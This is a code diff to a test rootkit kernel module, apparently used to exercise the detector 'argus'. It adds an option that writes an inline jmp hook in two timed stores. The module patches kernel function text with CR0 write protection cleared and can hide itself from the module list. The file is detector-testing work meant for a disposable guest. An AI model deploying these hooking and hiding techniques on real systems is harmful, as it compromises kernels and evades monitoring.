@@ -3,7 +3,7 @@
  * hookinl - a test rootkit for argus's Kernel Text Modified: an inline
  * hook, a jmp written over the first bytes of a kernel function.
  *
- * insmod hookinl.ko [sym=__x64_sys_sysinfo] [at=0] [insn=0] [hide=0]
+ * insmod hookinl.ko [sym=__x64_sys_sysinfo] [at=0] [insn=0] [hide=0] [split_ms=0]
  * writes "jmp hook" (e9 rel32) at sym+at, past insn more whole
  * instructions (the kernel's own decoder), with CR0.WP cleared, as inline
  * hooking rootkits do; the hook counts its calls (parameter hits) and
@@ -12,11 +12,16 @@
  * ftrace site alone; at=9 just after it, into the function's own code.
  * insn=N puts the jmp in the middle of the function, at an instruction
  * boundary: a function never called (sym=__x64_sys_acct), or the guest
- * crashes.  With hide=1 the module then hides itself (rkit.h).
+ * crashes.  With hide=1 the module then hides itself (rkit.h).  With
+ * split_ms=N the jmp is written as two stores N ms apart, its first four
+ * bytes then its last (what a reader outside the guest may catch between
+ * the two stores of a plain 5-byte copy, held long enough to be read).
  *
- * rmmod (or echo 1 >/proc/hookinl when hidden) puts the bytes back.  For
+ * rmmod (or echo 1 >/proc/hookinl when hidden) puts the bytes back.
+ * Built as hookinm.ko too (hookinm.c): the module text tests' own.  For
  * testing only; loaded in a disposable test guest.
  */
+#include <linux/delay.h>
 #include <linux/proc_fs.h>
 #include <linux/version.h>
 #include <asm/insn.h>
@@ -31,6 +36,8 @@ static int insn;
 module_param(insn, int, 0444);
 static int hide;
 module_param(hide, int, 0444);
+static int split_ms;
+module_param(split_ms, int, 0444);
 static ulong hits;
 module_param(hits, ulong, 0444);
 static ulong site, handler;	/* for the test */
@@ -57,7 +64,7 @@ static ssize_t ctl_write(struct file *f, const char __user *buf, size_t len, lof
 {
 	unpatch();
 	rkit_unhide();
-	pr_info("hookinl: bytes put back, module listed\n");
+	pr_info(KBUILD_MODNAME ": bytes put back, module listed\n");
 	return len;
 }
 
@@ -107,14 +114,20 @@ static int __init hookinl_init(void)
 		return -ERANGE;
 	*(s32 *)(jmp + 1) = (s32)rel;
 	memcpy(saved, (void *)site, sizeof(saved));
-	if (hide && !proc_create("hookinl", 0200, NULL, &ctl_ops))
+	if (hide && !proc_create(KBUILD_MODNAME, 0200, NULL, &ctl_ops))
 		return -ENOMEM;
-	rkit_poke((void *)site, jmp, sizeof(jmp));
+	if (split_ms > 0) {
+		rkit_poke((void *)site, jmp, 4);
+		msleep(split_ms);
+		rkit_poke((void *)(site + 4), jmp + 4, 1);
+	} else {
+		rkit_poke((void *)site, jmp, sizeof(jmp));
+	}
 	patched = true;
-	pr_info("hookinl: %s+%lu at %lx: jmp %lx\n", sym, site - fn, site, handler);
+	pr_info(KBUILD_MODNAME ": %s+%lu at %lx: jmp %lx\n", sym, site - fn, site, handler);
 	if (hide && rkit_hide()) {
 		unpatch();
-		remove_proc_entry("hookinl", NULL);
+		remove_proc_entry(KBUILD_MODNAME, NULL);
 		return -ENOENT;
 	}
 	return 0;
@@ -124,7 +137,7 @@ static void __exit hookinl_exit(void)
 {
 	unpatch();
 	if (hide)
-		remove_proc_entry("hookinl", NULL);
+		remove_proc_entry(KBUILD_MODNAME, NULL);
 }
 
 module_init(hookinl_init);
